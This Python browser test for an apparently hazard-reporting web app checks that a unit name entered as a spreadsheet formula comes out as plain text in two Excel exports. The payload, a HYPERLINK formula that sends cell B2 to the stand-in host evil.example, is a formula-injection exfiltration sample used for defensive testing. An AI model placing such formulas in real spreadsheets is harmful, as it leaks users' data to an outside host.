"""In the browser: a unit manager names their unit as a spreadsheet formula; the regulator's
ledger export (written in the background) and the unit register export keep it as text."""

import io
import zipfile

from openpyxl import load_workbook

from hazardloop.hazards.tests.helpers import hazard
from hazardloop.testing import IMMEDIATE_TASKS, browser_login, build_cast

FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"点此查看")'


def _download(page, testid: str) -> bytes:
    with page.expect_download() as info:
        page.click(f"[data-testid={testid}]")
    return open(info.value.path(), "rb").read()


def _cells_are_text(data: bytes, value: str) -> None:
    book = zipfile.ZipFile(io.BytesIO(data))
    for name in book.namelist():
        if name.startswith("xl/worksheets/"):
            assert "<f>" not in book.read(name).decode(), name
    values = {c for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row}
    assert value in {c.value for c in values}
    assert all(c.data_type != "f" for c in values)


def test_a_hostile_unit_name_exports_as_text(browser_page, settings, tmp_path):
    settings.TASKS = IMMEDIATE_TASKS
    settings.MEDIA_ROOT = tmp_path / "media"
    cast = build_cast()
    hazard(cast, title="灭火器过期")
    page = browser_page

    browser_login(page, "t-unit")
    page.goto(f"{page.base_url}/units/{cast.unit.pk}/edit/")
    page.fill("input[name=name]", FORMULA)
    page.click("[data-testid=unit-save]")
    page.locator("[data-testid=unit-name]").wait_for()
    assert page.locator("[data-testid=unit-name]").inner_text() == FORMULA
    page.click("[data-testid=user-menu]")
    page.click("[data-testid=logout]")
    page.wait_for_load_state("networkidle")

    browser_login(page, "t-reg")
    page.goto(f"{page.base_url}/hazards/")
    page.click("[data-testid=export]")
    page.locator("[data-testid=export-download]").wait_for()
    page.screenshot(path="/tmp/hazards-export-hostile.png", full_page=True)
    _cells_are_text(_download(page, "export-download"), FORMULA)

    page.goto(f"{page.base_url}/units/")
    page.click("[data-testid=unit-export]")
    page.locator("[data-testid=export-download]").wait_for()
    _cells_are_text(_download(page, "export-download"), FORMULA)
